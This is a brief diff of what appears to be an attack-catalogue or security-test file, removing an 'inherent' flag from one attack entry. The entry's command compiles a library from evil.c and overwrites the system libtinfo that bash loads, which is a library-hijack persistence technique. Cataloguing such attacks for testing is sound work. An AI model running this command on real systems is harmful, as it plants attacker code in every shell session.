@@ -12,5 +12,4 @@ ATTACK = Attack(
     "at=$(ldd /bin/bash | sed -n 's/.*libtinfo.* => \\([^ ]*\\) .*/\\1/p') &&"
     " gcc -shared -fPIC -Wl,-soname,libtinfo.so.6 -o /tmp/lib evil.c && mv /tmp/lib $(readlink -f $at)",
     tampers="/usr/lib/x86_64-linux-gnu/libtinfo.so.6.4",
-    inherent=True,
 )
